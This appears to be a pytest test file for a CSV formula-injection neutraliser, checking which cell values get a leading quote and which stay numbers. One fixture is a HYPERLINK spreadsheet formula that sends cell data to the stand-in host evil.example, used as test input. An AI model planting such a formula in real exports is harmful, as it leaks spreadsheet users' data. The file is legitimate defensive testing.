"""The CSV neutraliser: cells a spreadsheet would run as formulas get a leading quote (OWASP),
plain decimal numbers stay numbers, and the writers apply it to every cell."""

from __future__ import annotations

import csv
import io

import pytest

from nudgeflow.spreadsheet import csv_dict_writer, csv_writer, neutralise

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-", "'-"),
        ("-5.00 USD", "'-5.00 USD"),
        ("+5", "'+5"),
        ("-5.", "'-5."),
        ("-.5", "'-.5"),
        # Plain decimal numbers, negative ones included, stay numbers.
        ("-5.00", "-5.00"),
        ("-12", "-12"),
        ("12.50", "12.50"),
        # Nothing to do.
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-5, -5),
        (2.5, 2.5),
    ],
)
def test_neutralise(value: object, written: object) -> None:
    assert neutralise(value) == written


def test_the_writers_neutralise_every_cell_and_a_spreadsheet_reads_text_back() -> None:
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["line", "name", "amount"])
    writer.writerows([[7, HYPERLINK, "-5.00"], [8, "@cmd", "-1+1"]])
    assert out.getvalue().splitlines()[1:] == [
        '7,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",-5.00',
        "8,'@cmd,'-1+1",
    ]

    out = io.StringIO()
    dict_writer = csv_dict_writer(out, ("member_id", "amount"), lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerows([{"member_id": "=1+1", "amount": "-7.25"}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["member_id", "amount"],
        ["'=1+1", "-7.25"],
    ]
